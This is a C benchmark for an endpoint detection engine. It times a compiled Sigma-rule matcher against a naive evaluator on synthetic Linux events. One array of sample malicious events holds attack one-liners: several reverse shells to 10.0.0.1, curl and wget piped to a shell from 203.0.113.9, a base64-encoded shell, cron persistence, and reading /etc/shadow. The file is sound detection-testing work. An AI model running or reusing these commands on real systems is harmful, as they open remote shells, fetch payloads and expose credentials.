/*
 * bench/engine_bench: the detection engine's throughput, compiled matcher
 * against the naive one-rule-at-a-time evaluator, in the same run.
 *
 *   engine_bench [--events N] [--chunk K] [--seed S] [--cpu C] [--quiet] [PATH...]
 *
 * Loads PATH (default: ../shared/sigma-linux/{rules,rules-emerging-threats,
 * rules-threat-hunting} and content/rules) with the sensor's own loader,
 * then generates N events (default 1,000,000) of a realistic mix, K at a
 * time (default 256): mostly exec of common binaries with their usual
 * command lines, file creates and modifies under /tmp, /etc, /home and
 * /var, connects and accepts, exits, deletes, renames, pipes and DNS
 * answers; about 0.5% are malicious (the content's own match fixtures and
 * well-known one-liners) so that rules fire. Each chunk is matched by the
 * compiled matcher and by the naive evaluator, in alternating order, each
 * timed on its own (generation is not timed); both must fire the same
 * number of rules, or the run fails.
 *
 * Prints events/s of each, their ratio, alerts, and memory: the engine's
 * heap (mallinfo2 before and after loading the set: rules, Hyperscan
 * databases, scratch) and the process's peak RSS (VmHWM), which also holds
 * the generator and one chunk of events. Exit 0, or 1 when the two
 * evaluators disagree or the content does not load.
 *
 * Single-threaded: one core (--cpu pins it). Numbers from a shared machine
 * are indicative only.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <dirent.h>
#include <getopt.h>
#include <malloc.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/ecs_in.h"
#include "common/event.h"
#include "engine/ruleset.h"
#include "engine/sigma_match.h"

/* ---- generator ---- */

static uint64_t rng = 0x1234567887654321ull;

static uint64_t rnd(void)
{
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return rng * 2685821657736338717ull;
}

static size_t pick(size_t n)
{
	return (size_t)(rnd() % n);
}

#define N(a) (sizeof(a) / sizeof((a)[0]))

/* image, then typical command lines (%s: a random word) */
struct prog {
	const char *image;
	const char *cmds[6];
};

static const struct prog progs[] = {
	{ "/usr/bin/ls", { "ls", "ls -la", "ls -la /home/%s/src", "ls --color=auto -l /var/log", NULL } },
	{ "/usr/bin/grep", { "grep -rn %s src/", "grep -q %s /etc/passwd", "grep --color=auto -i error /var/log/syslog", NULL } },
	{ "/usr/bin/git", { "git status", "git log --oneline -20", "git diff HEAD~1 -- src/%s.c", "git fetch origin", "git commit -m 'fix %s'", NULL } },
	{ "/usr/bin/python3", { "python3 -m pip install requests", "python3 manage.py runserver 0.0.0.0:8000", "python3 /usr/bin/unattended-upgrade", "python3 -c 'import sys; print(sys.version)'", NULL } },
	{ "/usr/bin/bash", { "bash", "/bin/bash -l", "bash -c 'make -j4 %s'", "bash /home/%s/bin/backup.sh", "-bash", NULL } },
	{ "/usr/bin/dash", { "/bin/sh -c run-parts --report /etc/cron.daily", "sh -c 'echo %s > /dev/null'", "/bin/sh /usr/lib/apt/apt.systemd.daily update", NULL } },
	{ "/usr/bin/curl", { "curl -s https://api.example.com/v1/%s", "curl -fsSL -o /home/%s/pkg.tar.gz https://example.org/pkg.tar.gz", "curl -I https://deb.debian.org", NULL } },
	{ "/usr/bin/systemctl", { "systemctl status nginx", "systemctl is-active --quiet %s", "systemctl restart php8.2-fpm", NULL } },
	{ "/usr/bin/gcc", { "gcc -O2 -Wall -c %s.c -o %s.o", "gcc -o app main.o util.o -lm", NULL } },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", { "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu %s.c -O2", NULL } },
	{ "/usr/bin/make", { "make", "make -j4", "make -C build %s", "make install DESTDIR=/tmp/stage", NULL } },
	{ "/usr/bin/tar", { "tar xzf %s.tar.gz", "tar czf /var/backups/%s.tgz /etc", NULL } },
	{ "/usr/bin/ps", { "ps aux", "ps -ef", "ps -o pid,cmd -p 1234", NULL } },
	{ "/usr/bin/cat", { "cat /var/log/syslog", "cat /proc/cpuinfo", "cat %s.txt", NULL } },
	{ "/usr/bin/sed", { "sed -i s/%s/bar/g config.ini", "sed -n 1,10p README.md", NULL } },
	{ "/usr/bin/awk", { "awk '{print $1}' access.log", "awk -F: '{print $1}' /etc/passwd", NULL } },
	{ "/usr/sbin/sshd", { "sshd: %s [priv]", "/usr/sbin/sshd -D", "sshd: %s@pts/0", NULL } },
	{ "/usr/bin/sudo", { "sudo apt-get update", "sudo systemctl restart nginx", "sudo -u postgres psql", NULL } },
	{ "/usr/bin/apt-get", { "apt-get update", "apt-get install -y %s", "apt-get -qq upgrade", NULL } },
	{ "/usr/bin/dpkg", { "dpkg -l", "dpkg --configure -a", "dpkg -i %s.deb", NULL } },
	{ "/usr/bin/node", { "node server.js", "node /usr/lib/node_modules/npm/bin/npm-cli.js install", NULL } },
	{ "/usr/bin/docker", { "docker ps", "docker run --rm -it %s:latest", "docker compose up -d", NULL } },
	{ "/usr/bin/find", { "find . -name '*.%s'", "find /var/log -mtime +7 -type f", NULL } },
	{ "/usr/bin/vim.basic", { "vim %s.c", "vim /etc/nginx/sites-available/default", NULL } },
	{ "/usr/bin/rsync", { "rsync -az /srv/ backup:/srv/", "rsync -av --delete %s/ /mnt/backup/", NULL } },
	{ "/usr/bin/ssh", { "ssh -p 22 %s@build01", "ssh git@github.com git-upload-pack 'org/repo.git'", NULL } },
	{ "/usr/lib/systemd/systemd-journald", { "/lib/systemd/systemd-journald", NULL } },
	{ "/usr/sbin/cron", { "/usr/sbin/cron -f", NULL } },
	{ "/usr/bin/head", { "head -n 20 %s.log", NULL } },
	{ "/usr/bin/env", { "/usr/bin/env python3 %s.py", NULL } },
};

static const struct { const char *image, *cmd; } parents[] = {
	{ "/usr/bin/bash", "-bash" },
	{ "/usr/bin/bash", "bash" },
	{ "/usr/sbin/sshd", "sshd: alice@pts/0" },
	{ "/usr/lib/systemd/systemd", "/sbin/init" },
	{ "/usr/bin/make", "make -j4" },
	{ "/usr/sbin/cron", "/usr/sbin/cron -f" },
	{ "/usr/bin/python3", "python3 manage.py runserver" },
	{ "/usr/bin/dash", "/bin/sh -c run-parts --report /etc/cron.daily" },
};

static const char *const words[] = {
	"main", "util", "alice", "bob", "report", "nginx", "deploy", "app", "test", "data",
	"config", "server", "worker", "index", "build", "release",
};
static const char *const users[] = { "root", "alice", "bob", "www-data", "postgres", "ci" };
static const char *const cwds[] = { "/", "/home/alice/src/app", "/home/bob", "/tmp", "/var/www",
				     "/srv/app", "/root" };
static const char *const file_dirs[] = {
	"/tmp/", "/tmp/pip-build-", "/home/alice/src/app/", "/home/bob/.cache/", "/etc/",
	"/etc/nginx/conf.d/", "/var/log/", "/var/lib/apt/lists/", "/home/alice/.config/",
	"/var/tmp/", "/srv/app/static/",
};
static const char *const file_ext[] = { ".c", ".o", ".log", ".conf", ".json", ".txt", ".tmp",
					".py", ".pyc", "", ".gz", ".lock" };
static const char *const hosts[] = { "api.example.com", "deb.debian.org", "github.com",
				     "pypi.org", "registry.npmjs.org", "db01.internal",
				     "s3.amazonaws.com", "" };
static const char *const ips[] = { "10.0.3.17", "192.168.1.20", "140.82.121.4", "151.101.0.223",
				   "172.17.0.2", "127.0.0.1", "93.184.216.34", "2001:db8::10" };
static const int ports[] = { 443, 443, 443, 80, 22, 53, 5432, 6379, 8080, 3306 };

/* well-known malicious command lines (most fire a rule) */
static const char *const bad_cmds[] = {
	"nc -e /bin/sh 10.0.0.1 4444",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"curl -s http://203.0.113.9/x.sh | bash",
	"wget -q -O - http://203.0.113.9/a | sh",
	"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f",
	"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)'",
	"chmod +x /tmp/.x && /tmp/.x",
	"history -c",
	"echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NCAwPiYx | base64 -d | sh",
	"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444",
	"crontab -l | { cat; echo '* * * * * /tmp/.x'; } | crontab -",
	"cat /etc/shadow",
	"systemctl stop ringward",
};

struct gen {
	struct rw_event **fixtures;	/* the content's match fixtures */
	size_t n_fixtures;
	size_t n_bad;
};

static void set(struct rw_event *ev, enum rw_field f, const char *s)
{
	rw_event__set_cstr(ev, f, s);
}

static void process_ctx(struct rw_event *ev, const char *image, const char *cmd)
{
	size_t p = pick(N(parents));

	set(ev, RW_F_PROC_EXECUTABLE, image);
	set(ev, RW_F_PROC_COMMAND_LINE, cmd);
	set(ev, RW_F_PARENT_EXECUTABLE, parents[p].image);
	set(ev, RW_F_PARENT_COMMAND_LINE, parents[p].cmd);
	set(ev, RW_F_USER_NAME, users[pick(N(users))]);
	set(ev, RW_F_PROC_CWD, cwds[pick(N(cwds))]);
	set(ev, RW_F_RW_LOGIN_UID, pick(4) ? "1000" : "4294967295");
	rw_event__set_int(ev, RW_F_PROC_PID, 1000 + (int64_t)pick(60000));
	rw_event__set_int(ev, RW_F_PARENT_PID, 1 + (int64_t)pick(60000));
}

/* A command line of a common program. Many repeat exactly (the same
 * binaries run the same way); 40% carry something unique, as real ones
 * do: a temporary name, a pid, a timestamp, a commit. */
static void random_cmd(char *buf, size_t len, const struct prog **pp)
{
	const struct prog *p = &progs[pick(N(progs))];
	size_t nc = 0, n;

	while (nc < N(p->cmds) && p->cmds[nc])
		nc++;
	snprintf(buf, len, p->cmds[pick(nc)], words[pick(N(words))], words[pick(N(words))]);
	*pp = p;
	n = strlen(buf);
	if (pick(10) >= 4 || n + 48 > len)
		return;
	switch (pick(4)) {
	case 0:
		snprintf(buf + n, len - n, " /tmp/tmp.%06llx", (unsigned long long)pick(1 << 24));
		break;
	case 1:
		snprintf(buf + n, len - n, " --pid %zu", 1000 + pick(4000000));
		break;
	case 2:
		snprintf(buf + n, len - n, " --since 2024-%02zu-%02zuT%02zu:%02zu:%02zu", 1 + pick(12),
			 1 + pick(28), pick(24), pick(60), pick(60));
		break;
	default:
		snprintf(buf + n, len - n, " %07llx", (unsigned long long)pick(1 << 28));
		break;
	}
}

static void gen_event(struct gen *g, struct rw_event *ev)
{
	char cmd[512], path[256];
	const struct prog *p;
	size_t r = pick(1000);

	rw_event__reset(ev);
	if (r < 5) {		/* 0.5% malicious */
		g->n_bad++;
		if (g->n_fixtures && pick(2)) {
			struct rw_event *f = g->fixtures[pick(g->n_fixtures)];

			memcpy(ev, f, offsetof(struct rw_event, arena) + f->arena_used);
			return;
		}
		set(ev, RW_F_EVENT_ACTION, "exec");
		process_ctx(ev, pick(2) ? "/usr/bin/bash" : "/usr/bin/dash",
			    bad_cmds[pick(N(bad_cmds))]);
		return;
	}
	if (r < 700) {		/* exec */
		random_cmd(cmd, sizeof(cmd), &p);
		set(ev, RW_F_EVENT_ACTION, "exec");
		process_ctx(ev, p->image, cmd);
		return;
	}
	if (r < 850) {		/* file create / modify */
		random_cmd(cmd, sizeof(cmd), &p);
		set(ev, RW_F_EVENT_ACTION, pick(3) ? "modify" : "create");
		process_ctx(ev, p->image, cmd);
		snprintf(path, sizeof(path), "%s%s%zu%s", file_dirs[pick(N(file_dirs))],
			 words[pick(N(words))], pick(1000000), file_ext[pick(N(file_ext))]);
		set(ev, RW_F_FILE_PATH, path);
		return;
	}
	if (r < 930) {		/* connect / accept */
		static const char *const net_images[] = { "/usr/bin/curl", "/usr/bin/python3",
							  "/usr/sbin/sshd", "/usr/bin/apt-get",
							  "/usr/bin/git", "/usr/sbin/nginx" };
		const char *img = net_images[pick(N(net_images))];

		set(ev, RW_F_EVENT_ACTION, pick(5) ? "connect" : "accept");
		process_ctx(ev, img, img);
		set(ev, RW_F_DEST_IP, ips[pick(N(ips))]);
		rw_event__set_int(ev, RW_F_DEST_PORT, ports[pick(N(ports))]);
		set(ev, RW_F_SOURCE_IP, "10.0.3.5");
		rw_event__set_int(ev, RW_F_SOURCE_PORT, 32768 + (int64_t)pick(28000));
		set(ev, RW_F_NET_TRANSPORT, "tcp");
		set(ev, RW_F_DEST_DOMAIN, hosts[pick(N(hosts))]);
		return;
	}
	if (r < 970) {		/* exit */
		random_cmd(cmd, sizeof(cmd), &p);
		set(ev, RW_F_EVENT_ACTION, "exit");
		process_ctx(ev, p->image, cmd);
		return;
	}
	if (r < 985) {		/* delete / rename */
		random_cmd(cmd, sizeof(cmd), &p);
		set(ev, RW_F_EVENT_ACTION, pick(2) ? "delete" : "rename");
		process_ctx(ev, p->image, cmd);
		snprintf(path, sizeof(path), "%s%s%s", file_dirs[pick(N(file_dirs))],
			 words[pick(N(words))], file_ext[pick(N(file_ext))]);
		set(ev, RW_F_FILE_PATH, path);
		return;
	}
	if (r < 990) {		/* named pipe */
		set(ev, RW_F_EVENT_ACTION, pick(2) ? "pipe-create" : "pipe-open");
		process_ctx(ev, "/usr/bin/make", "make -j4");
		snprintf(path, sizeof(path), "/tmp/jobserver.%zu", pick(100000));
		set(ev, RW_F_FILE_PATH, path);
		return;
	}
	/* DNS answer */
	set(ev, RW_F_EVENT_ACTION, "dns-answer");
	set(ev, RW_F_DNS_QUESTION_NAME, hosts[pick(N(hosts) - 1)]);
	rw_event__add_strv(ev, RW_F_DNS_RESOLVED_IP, ips[pick(N(ips))], strlen(ips[0]));
}

/* The match fixtures of content/ (events that fire the default rules). */
static void load_fixtures(struct gen *g, const char *dir)
{
	struct dirent **ents;
	int n = scandir(dir, &ents, NULL, alphasort);

	for (int i = 0; i < n; i++) {
		char p[1024], *line = NULL;
		size_t cap = 0;
		ssize_t len;
		FILE *f;

		snprintf(p, sizeof(p), "%s/%s/match.jsonl", dir, ents[i]->d_name);
		f = ents[i]->d_name[0] == '.' ? NULL : fopen(p, "r");
		free(ents[i]);
		if (!f)
			continue;
		while ((len = getline(&line, &cap, f)) > 0) {
			struct rw_event *ev = rw_event__new();
			struct rw_event **v = realloc(g->fixtures,
						      (g->n_fixtures + 1) * sizeof(*v));

			if (!ev || !v) {
				free(ev);
				break;
			}
			g->fixtures = v;
			if (ecs__read_json(ev, line, (size_t)len, NULL) == 0)
				g->fixtures[g->n_fixtures++] = ev;
			else
				free(ev);
		}
		free(line);
		fclose(f);
	}
	if (n > 0)
		free(ents);
}

/* ---- measuring ---- */

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static size_t heap_used(void)
{
	struct mallinfo2 mi = mallinfo2();

	return mi.uordblks + mi.hblkhd;
}

static long vm_kib(const char *key)
{
	FILE *f = fopen("/proc/self/status", "r");
	char line[256];
	long v = -1;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, key, strlen(key)))
			v = strtol(line + strlen(key), NULL, 10);
	fclose(f);
	return v;
}

static void usage(FILE *f)
{
	fprintf(f, "usage: engine_bench [--events N] [--chunk K] [--seed S] [--cpu C] "
		"[--fixtures DIR] [--compiled-only] [PATH...]\n");
}

/* One way of evaluating, timed over the same events as the others. */
struct mode {
	const char *name;
	struct ruleset *rs;
	bool naive;
	double t;
	uint64_t alerts;
};

static struct ruleset *load_set(const char *const *paths, int n, double *secs)
{
	struct ruleset *rs;
	struct diag d;
	double t = now();

	diag__init(&d);
	rs = ruleset__load(paths, n, &d);
	*secs = now() - t;
	diag__print(&d, stderr);
	diag__free(&d);
	if (!rs)
		fprintf(stderr, "engine_bench: the content does not load\n");
	return rs;
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "events", required_argument, NULL, 'n' },
		{ "chunk", required_argument, NULL, 'k' },
		{ "seed", required_argument, NULL, 's' },
		{ "cpu", required_argument, NULL, 'c' },
		{ "fixtures", required_argument, NULL, 'f' },
		{ "compiled-only", no_argument, NULL, 'o' },
		{ "help", no_argument, NULL, 'h' },
		{ 0 },
	};
	static const char *const default_paths[] = {
		"../shared/sigma-linux/rules", "../shared/sigma-linux/rules-emerging-threats",
		"../shared/sigma-linux/rules-threat-hunting", "content/rules",
	};
	const char *const *paths = default_paths, *fixtures = "content/fixtures";
	size_t n_events = 1000000, chunk = 64, heap0, heap1, done = 0, alone_n = 0;
	int n_paths = N(default_paths), c, cpu = -1, n_modes = 3;
	bool compiled_only = false;	/* for profiling the compiled matcher */
	long hwm0, hwm1;
	struct gen g = { 0 };
	struct rw_event **evs;
	struct mode modes[3];
	struct cmatch_stats cst;
	double t_load, t2, alone_t = 0;

	while ((c = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
		switch (c) {
		case 'n': n_events = strtoul(optarg, NULL, 10); break;
		case 'k': chunk = strtoul(optarg, NULL, 10); break;
		case 's': rng = strtoull(optarg, NULL, 0) | 1; break;
		case 'c': cpu = atoi(optarg); break;
		case 'f': fixtures = optarg; break;
		case 'o': compiled_only = true; break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (optind < argc) {
		paths = (const char *const *)argv + optind;
		n_paths = argc - optind;
	}
	if (!chunk || !n_events) {
		usage(stderr);
		return 2;
	}
	if (cpu >= 0) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(cpu, &set);
		if (sched_setaffinity(0, sizeof(set), &set))
			perror("engine_bench: sched_setaffinity");
	}

	/* the engine's memory: heap before and after the set is loaded */
	hwm0 = vm_kib("VmHWM:");
	heap0 = heap_used();
	modes[0] = (struct mode){ "compiled matcher", load_set(paths, n_paths, &t_load), false, 0, 0 };
	heap1 = heap_used();
	if (!modes[0].rs)
		return 1;
	/* the same, its value caches off: what scanning every value costs */
	modes[1] = (struct mode){ "compiled, no value cache", load_set(paths, n_paths, &t2),
				  false, 0, 0 };
	modes[2] = (struct mode){ "naive evaluator", modes[0].rs, true, 0, 0 };
	if (!modes[1].rs)
		return 1;
	cmatch__set_cache(ruleset__cmatch(modes[1].rs), false);
	if (compiled_only)
		n_modes = 1;
	cmatch__stats(ruleset__cmatch(modes[0].rs), &cst);
	printf("rules: %zu from %d paths, loaded and compiled in %.3f s\n",
	       ruleset__count(modes[0].rs), n_paths, t_load);
	printf("compiled matcher: %zu databases, %zu patterns as %zu expressions (%zu confirmed "
	       "on a hit), %zu checked directly, %zu rules evaluated for every event of their "
	       "category, %zu gates, %.1f KiB of databases, %.1f KiB of value caches\n",
	       cst.databases, cst.hs_patterns, cst.hs_expressions, cst.confirmed, cst.direct,
	       cst.always, cst.gates,
	       cst.bytes / 1024.0, cst.cache_bytes / 1024.0);

	load_fixtures(&g, fixtures);
	evs = calloc(chunk, sizeof(*evs));
	for (size_t i = 0; evs && i < chunk; i++)
		if (!(evs[i] = rw_event__new()))
			return 1;
	if (!evs)
		return 1;

	for (size_t k = 0; done < n_events; k++) {
		size_t n = n_events - done < chunk ? n_events - done : chunk;
		uint64_t got[3] = { 0 };

		for (size_t i = 0; i < n; i++)
			gen_event(&g, evs[i]);
		/* rotate which goes first, so that none always finds the
		 * events warm in the cache */
		for (int pass = 0; pass < n_modes; pass++) {
			int mi = (int)((k + (size_t)pass) % (size_t)n_modes);
			struct mode *m = &modes[mi];
			double t0 = now();

			for (size_t i = 0; i < n; i++) {
				int r = m->naive ? ruleset__match_naive(m->rs, evs[i], NULL, NULL) :
						   ruleset__match(m->rs, evs[i], NULL, NULL);

				if (r < 0) {
					fprintf(stderr, "engine_bench: %s: match failed: %s\n",
						m->name, strerror(-r));
					return 1;
				}
				got[mi] += (uint64_t)r;
			}
			m->t += now() - t0;
		}
		for (int mi = 1; mi < n_modes; mi++)
			if (got[mi] != got[0]) {
				fprintf(stderr, "engine_bench: %s fired %llu rules and %s %llu on "
					"chunk %zu\n", modes[0].name, (unsigned long long)got[0],
					modes[mi].name, (unsigned long long)got[mi], k);
				return 1;
			}
		for (int mi = 0; mi < n_modes; mi++)
			modes[mi].alerts += got[mi];
		done += n;
	}
	/* then the compiled matcher alone on a fifth as many fresh events:
	 * interleaved with the others, each finds its working set evicted
	 * by them; this says how much that costs */
	while (alone_n < n_events / 5) {
		size_t n = chunk;

		for (size_t i = 0; i < n; i++)
			gen_event(&g, evs[i]);
		t2 = now();
		for (size_t i = 0; i < n; i++)
			if (ruleset__match(modes[0].rs, evs[i], NULL, NULL) < 0)
				return 1;
		alone_t += now() - t2;
		alone_n += n;
	}
	hwm1 = vm_kib("VmHWM:");

	cmatch__stats(ruleset__cmatch(modes[0].rs), &cst);
	printf("events: %zu (%zu malicious), alerts: %llu, the same from every evaluator\n",
	       done, g.n_bad, (unsigned long long)modes[0].alerts);
	printf("per event (compiled): %.2f values scanned, %.2f from the value caches "
	       "(%.0f%% of lookups), %.2f pattern hits, %.2f rules dropped by their gates, "
	       "%.2f rules evaluated\n",
	       (double)cst.scans / cst.events, (double)cst.cache_hits / cst.events,
	       100.0 * cst.cache_hits / (cst.cache_hits + cst.scans + 1e-9),
	       (double)cst.hits / cst.events, (double)cst.gated / cst.events,
	       (double)cst.candidates / cst.events);
	for (int mi = 0; mi < n_modes; mi++)
		printf("%-26s %9.0f events/s (%5.0f ns/event)\n", modes[mi].name,
		       done / modes[mi].t, modes[mi].t * 1e9 / done);
	if (n_modes == 3)
		printf("ratio to the naive evaluator: compiled %.2fx, compiled without value "
		       "cache %.2fx\n", modes[2].t / modes[0].t, modes[2].t / modes[1].t);
	printf("%-26s %9.0f events/s (%5.0f ns/event), %zu more events, not interleaved\n",
	       "compiled matcher alone", alone_n / alone_t, alone_t * 1e9 / alone_n, alone_n);
	printf("engine heap: %.1f MiB (rules, databases, caches, scratch); peak RSS (VmHWM): "
	       "%.1f MiB for the process (two rule sets, generator, events), %.1f MiB before "
	       "loading\n", (double)(heap1 - heap0) / (1024 * 1024), hwm1 / 1024.0,
	       hwm0 / 1024.0);
	printf("targets: >= 2000000 events/s on one core: %s interleaved, %s alone; engine "
	       "memory <= 64 MiB: %s\n", done / modes[0].t >= 2e6 ? "met" : "NOT met",
	       alone_n / alone_t >= 2e6 ? "met" : "NOT met",
	       (double)(heap1 - heap0) <= 64.0 * 1024 * 1024 ? "met" : "NOT met");

	for (size_t i = 0; i < chunk; i++)
		free(evs[i]);
	free(evs);
	for (size_t i = 0; i < g.n_fixtures; i++)
		free(g.fixtures[i]);
	free(g.fixtures);
	ruleset__free(modes[0].rs);
	ruleset__free(modes[1].rs);
	return 0;
}
